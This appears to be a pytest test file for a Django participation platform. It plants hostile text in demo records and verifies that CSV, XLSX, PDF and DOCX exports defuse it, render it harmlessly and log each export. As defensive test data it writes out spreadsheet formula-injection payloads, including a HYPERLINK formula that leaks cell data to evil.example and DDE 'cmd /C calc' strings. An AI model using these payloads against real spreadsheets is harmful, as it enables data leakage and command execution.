"""Every export, as pages and API hand it out, on the demo world with hostile text typed into
its records: spreadsheet formulas are defused in every CSV and XLSX cell, PDFs and DOCX show
markup as text and fetch nothing, and each download of personal data is in the security log.

The URL patterns are walked: one whose name or path says it exports (export, csv, xlsx,
file, download, report, a file format) must be a case below or be named as not an export."""

import csv
import datetime
import io
import json
import re
import zipfile
from collections import Counter
from io import StringIO

import docx
import openpyxl
import pytest
from django.contrib.contenttypes.models import ContentType
from django.core.cache import cache
from django.core.management import call_command
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from pypdf import PdfReader

from consultations.models import Consultation, WeighingPoint
from meetings.models import Decision, MeetingRecord
from monitoring.models import Indicator, Review, Round, Value
from overview import report_jobs
from participation.models import Invitation, Organisation, Person, SecurityEvent
from participation.models.security import SecurityEventKind
from participation.spreadsheets import FORMULA_STARTS
from surveys.models import Answer, Survey
from tests.documents_support import counting_server
from tests.factories import give_totp, member_of
from workshops.live.models import Card
from workshops.models import Workshop

pytestmark = pytest.mark.django_db

# Text people type that a spreadsheet would run (OWASP CSV injection).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
# Markup a document must show as text and never load.
MARKUP = "<b>x</b>"


def _image(origin):
    return f'<img src="{origin}/evil.png">'


# --- the world -----------------------------------------------------------------------------------


def _hostile(value, number):
    return f"{FORMULAS[number % len(FORMULAS)]} {value}"


def _set(record, **values):
    """Set the fields, each cut to its column's length, and save them."""
    for field, value in values.items():
        limit = record._meta.get_field(field).max_length
        setattr(record, field, value[:limit] if limit else value)
    record.save(update_fields=list(values))


@pytest.fixture
def world(django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        call_command("seed_demo", stdout=StringIO())
    cache.clear()
    with counting_server() as (origin, requests):
        for number, organisation in enumerate(Organisation.objects.order_by("pk")):
            _set(
                organisation,
                name=_hostile(organisation.name, number),
                short_name=_hostile(organisation.short_name or "", number + 1),
            )
        for number, person in enumerate(Person.objects.order_by("pk")):
            _set(
                person,
                first_name=_hostile(MARKUP, number),
                last_name=f"{_image(origin)} {person.last_name}",
            )
        texts = Answer.objects.filter(question__kind__in=["short_text", "long_text"])
        for number, answer in enumerate(texts.order_by("pk")):
            if isinstance(answer.value, str):
                answer.value = _hostile(answer.value, number)
                answer.save(update_fields=["value"])
        for number, decision in enumerate(Decision.objects.order_by("pk")):
            _set(
                decision,
                title=_hostile(decision.title, number),
                text=f"{MARKUP} {_image(origin)} {decision.text}",
            )
        for number, point in enumerate(WeighingPoint.objects.order_by("pk")):
            _set(point, text=_hostile(f"{MARKUP} {_image(origin)} {point.text}", number))
        for number, card in enumerate(Card.objects.order_by("pk")):
            _set(card, text=_hostile(card.text, number))
        offices = Organisation.objects.filter(kind="county_office").order_by("pk")
        coordinator = member_of(offices.first(), is_coordinator=True)
        give_totp(coordinator)
        with django_capture_on_commit_callbacks(execute=True):
            report = report_jobs.request_report(
                start=datetime.date(2020, 1, 1),
                end=datetime.date(2035, 12, 31),
                actor=coordinator,
            )
        yield {"coordinator": coordinator, "report": report, "requests": requests}


def _ids(world):
    survey = Survey.objects.get()
    done = Workshop.objects.get(status="done")
    workshop_type = ContentType.objects.get_for_model(Workshop)
    invited = Counter(
        Invitation.objects.filter(event_type=workshop_type).values_list("event_id", flat=True)
    )
    invited = Workshop.objects.get(pk=invited.most_common(1)[0][0])
    meeting = MeetingRecord.objects.filter(status="approved").order_by("pk").first().meeting
    closed = Consultation.objects.get(status="closed")
    report = world["report"]
    return survey, done, invited, meeting, closed, report


# --- the exports ------------------------------------------------------------------------------


def exports(world):
    """(URL name, URL, format) of every export of personal data."""
    survey, done, invited, meeting, closed, report = _ids(world)
    cases = []
    for file_format in ("csv", "xlsx"):
        cases += [
            (
                f"surveys:export_{file_format}",
                reverse(f"surveys:export_{file_format}", args=[survey.pk]),
                file_format,
            ),
            (
                "survey-export",
                f"/api/v1/surveys/{survey.pk}/export/?format={file_format}",
                file_format,
            ),
            (
                "workshops:export_participants",
                reverse("workshops:export_participants", args=[invited.pk, file_format]),
                file_format,
            ),
            (
                "meetings:decision_search",
                reverse("meetings:decision_search") + f"?format={file_format}",
                file_format,
            ),
            (
                "meetings_api:decision-export",
                f"/api/v1/decisions/export/?format={file_format}",
                file_format,
            ),
            (
                "consultations:record_file",
                reverse("consultations:record_file", args=[closed.pk, file_format]),
                file_format,
            ),
            (
                "consultation-record-file",
                f"/api/v1/consultations/{closed.pk}/record/file/?format={file_format}",
                file_format,
            ),
        ]
    # The approved values of the social monitoring: municipalities' totals carry their
    # (hostile) names, the XLSX names the suppliers.
    indicator = Indicator.objects.get(code="SGB2-U15")
    approved_round = Round.objects.order_by("reference_date").first()
    cases += [
        (
            "monitoring:indicator_export_csv",
            reverse("monitoring:indicator_export_csv", args=[indicator.pk]),
            "csv",
        ),
        (
            "monitoring:indicator_export_geojson",
            reverse("monitoring:indicator_export_geojson", args=[indicator.pk]),
            "geojson",
        ),
        (
            "indicator-kommonitor",
            f"/api/v1/indicators/{indicator.pk}/kommonitor/?format=csv",
            "csv",
        ),
        (
            "indicator-kommonitor",
            f"/api/v1/indicators/{indicator.pk}/kommonitor/?format=geojson",
            "geojson",
        ),
        (
            "monitoring:round_export_xlsx",
            reverse("monitoring:round_export_xlsx", args=[approved_round.pk]),
            "xlsx",
        ),
        ("delivery-round-export", f"/api/v1/delivery-rounds/{approved_round.pk}/export/", "xlsx"),
    ]
    cases += [
        (
            "workshops:export_live_results",
            reverse("workshops:export_live_results", args=[done.pk]),
            "csv",
        ),
        (
            "workshops_api:workshop-export-activities",
            f"/api/v1/workshops/{done.pk}/activities/export/",
            "csv",
        ),
    ]
    for file_format in ("pdf", "docx"):
        cases += [
            (
                "meetings:minutes_file",
                reverse("meetings:minutes_file", args=[meeting.pk, file_format]),
                file_format,
            ),
            (
                "meetings_api:minutes-file",
                f"/api/v1/meetings/{meeting.pk}/minutes/file/?format={file_format}",
                file_format,
            ),
        ]
    for file_format in ("xlsx", "pdf", "docx"):
        cases += [
            (
                "consultations:weighing_file",
                reverse("consultations:weighing_file", args=[closed.pk, file_format]),
                file_format,
            ),
            (
                "consultation-weighing-file",
                f"/api/v1/consultations/{closed.pk}/weighing/file/?format={file_format}",
                file_format,
            ),
            (
                "overview:committee_report_download",
                reverse("overview:committee_report_download", args=[report.pk, file_format]),
                file_format,
            ),
            (
                "overview-api:report-download",
                f"/api/v1/reports/{report.pk}/download/?format={file_format}",
                file_format,
            ),
        ]
    return cases


# Routes whose name or path looks like an export but that hand out no export of personal data.
NOT_EXPORTS = {
    # Uploaded files, served as they were uploaded (tests/test_uploads.py).
    "surveys:answer_file": "an uploaded file",
    "workshops:document_download": "an uploaded file",
    "meetings:agenda_document_get": "an uploaded file",
    "meetings_api:agenda-document": "an uploaded file",
    "consultations:attachment": "an uploaded file",
    "consultation-file": "an uploaded file",
    "consultations:attachment_add": "an upload form",
    "consultations:attachment_delete": "deletes an upload",
    "consultation-files": "an upload",
    "meetings_api:agenda-item-documents": "an upload",
    # Pages, not files.
    "workshops:sign_in_sheet": "a page to print in the browser",
    "surveys:response_print": "a page to print in the browser",
    "meetings:minutes_print": "a page to print in the browser",
    "overview:committee_report": "the page that requests a report",
    "overview:committee_report_detail": "the report's progress page",
    "overview-api:report-list": "the requested reports, as data",
    "overview-api:report-detail": "one requested report, as data",
    "surveys:publish_results": "publishes results (no file)",
    "surveys:withdraw_results": "withdraws results (no file)",
    "survey-publish-results": "publishes results (no file)",
    "survey-withdraw-results": "withdraws results (no file)",
    "mfa_download_recovery_codes": "the user's own recovery codes (allauth)",
    # The registry of social spaces: places, no personal data; its CSV goes through the
    # spreadsheets module (tests/monitoring/test_spaces.py reads a formula back defused).
    "monitoring:space_export_csv": "the registry of spaces, no personal data",
    "monitoring:space_export_geojson": "the registry of spaces, no personal data",
    "space-csv": "the registry of spaces, no personal data",
    "space-geojson": "the registry of spaces, no personal data",
    # A delivery's template: figures of a supplier, no personal data; its CSV and XLSX go
    # through the spreadsheets module (tests/monitoring/test_delivery_files.py reads a
    # formula-like comment back defused).
    "monitoring:delivery_template_csv": "a delivery's figures, no personal data",
    "monitoring:delivery_template_xlsx": "a delivery's figures, no personal data",
    "monitoring:delivery_upload": "an upload",
    # Reported barriers: a public form and the coordinators' list, no file.
    "participation:barrier_report": "the form to report a barrier",
    "participation:barrier_reports": "the coordinators' list of reported barriers",
    "participation:barrier_report_answered": "marks a report answered (no file)",
    "api:barrier-report-list": "reported barriers, as data",
    "api:barrier-report-detail": "one reported barrier, as data",
    "api:barrier-report-answered": "marks a report answered (no file)",
    # A person's own data: a ZIP only they reach; its CSV files go through the spreadsheets
    # module (tests/participation/test_data_export.py).
    "participation:my_data_export": "the progress page of one's own download",
    "participation:my_data_download": "one's own data, for oneself",
    "participation:invitation_data_export": "the progress page of an invitee's own download",
    "participation:invitation_data_download": "an invitee's own data, for themselves",
    "api:my-data-download": "one's own data, for oneself",
    "participation:records_of_processing_download": "the declarations of processing, no "
    "personal data",
}
EXPORT_WORDS = re.compile(r"export|csv|xlsx|docx|pdf|file|download|report|sheet")


def _patterns(resolver=None, prefix="", route=""):
    resolver = resolver or get_resolver()
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            namespace = f"{prefix}{entry.namespace}:" if entry.namespace else prefix
            yield from _patterns(entry, namespace, route + str(entry.pattern))
        # DRF's format-suffix twins (`\.(?P<format>…)`) are the same views.
        elif (
            isinstance(entry, URLPattern) and entry.name and "(?P<format>" not in str(entry.pattern)
        ):
            yield f"{prefix}{entry.name}", route + str(entry.pattern)


def test_every_export_url_is_a_case(world):
    cases = {name for name, _url, _format in exports(world)}
    looks_like_export = {
        name for name, route in _patterns() if EXPORT_WORDS.search(f"{name} {route}".lower())
    }
    assert {"surveys:export_csv", "overview-api:report-download"} <= looks_like_export
    missing = looks_like_export - cases - set(NOT_EXPORTS)
    assert not missing, f"exports without a case: {sorted(missing)}"
    assert cases <= {name for name, _route in _patterns()}


# --- what each file holds -------------------------------------------------------------------------

NUMBER = re.compile(r"^-?\d+([.,]\d+)?$")


def _csv_cells(content):
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def assert_csv_defused(content):
    cells = _csv_cells(content)
    running = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.match(c)]
    assert not running, running[:5]
    assert any(c.startswith("'") and c[1:].startswith(FORMULA_STARTS) for c in cells), repr(
        cells[:40]
    )


def assert_xlsx_defused(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    # The text is kept exactly as typed, as a text cell.
    assert any(text.startswith(tuple(f[:4] for f in FORMULAS)) for text in texts), texts[:40]
    # The XML holds no formula element at all.
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name)


def _docx_text(content):
    document = docx.Document(io.BytesIO(content))
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        parts += [cell.text for row in table.rows for cell in row.cells]
    return "\n".join(parts)


def _pdf_text(content):
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def assert_markup_is_text(text):
    assert MARKUP in text or "<b>" in text, text[:2000]


def test_every_export_is_defused_escaped_and_logged(client, world):
    client.force_login(world["coordinator"])
    checked = []
    for name, url, file_format in exports(world):
        before = SecurityEvent.objects.filter(kind=SecurityEventKind.EXPORTED).count()
        response = client.get(url)
        assert response.status_code == 200, (name, url, response.status_code)
        content = b"".join(response.streaming_content) if response.streaming else response.content
        assert response["Content-Disposition"].startswith("attachment"), name
        if file_format == "csv":
            assert_csv_defused(content)
        elif file_format == "xlsx":
            assert_xlsx_defused(content)
        elif file_format == "docx":
            assert_markup_is_text(_docx_text(content))
        elif file_format == "pdf":
            assert_markup_is_text(_pdf_text(content))

        events = SecurityEvent.objects.filter(kind=SecurityEventKind.EXPORTED).order_by("pk")
        assert events.count() == before + 1, name
        event = events.last()
        assert event.actor == world["coordinator"]
        assert event.path == url.split("?")[0]
        assert event.detail["export"] and event.detail["file"].endswith(f".{file_format}")
        checked.append(name)
    assert world["requests"] == [], "a document fetched something from the network"
    assert len(checked) >= 30


def test_monitoring_exports_leave_suppressed_values_out(client, world):
    """Every suppressed value of the demo's approved deliveries is in the files only as an
    empty cell with its marker, never as its number."""
    client.force_login(world["coordinator"])
    indicator = Indicator.objects.get(code="SGB2-U15")
    suppressed = Value.objects.filter(
        response__review=Review.APPROVED, indicator=indicator, suppressed=True
    )
    keys = {value.space.key for value in suppressed.select_related("space")}
    assert keys, "the demo has suppressed values"

    response = client.get(reverse("monitoring:indicator_export_csv", args=[indicator.pk]))
    rows = list(
        csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()), delimiter=";")
    )
    marked = [row for row in rows if row["SUPPRESSED"]]
    assert {row["ID"] for row in marked} == keys
    for row in marked:
        for day in row["SUPPRESSED"].split():
            assert row[f"DATE_{day}"] == ""

    response = client.get(reverse("monitoring:indicator_export_geojson", args=[indicator.pk]))
    features = json.loads(b"".join(response.streaming_content))["features"]
    for feature in features:
        for day in feature["properties"]["SUPPRESSED"]:
            assert feature["properties"][f"DATE_{day}"] is None

    approved_round = Round.objects.order_by("reference_date").first()
    response = client.get(reverse("monitoring:round_export_xlsx", args=[approved_round.pk]))
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    notes = [row for row in sheet.iter_rows(min_row=2, values_only=True) if row[10]]
    assert len(notes) == (
        Value.objects.filter(
            response__review=Review.APPROVED, response__round=approved_round, suppressed=True
        ).count()
    )
    assert all(row[9] is None for row in notes)
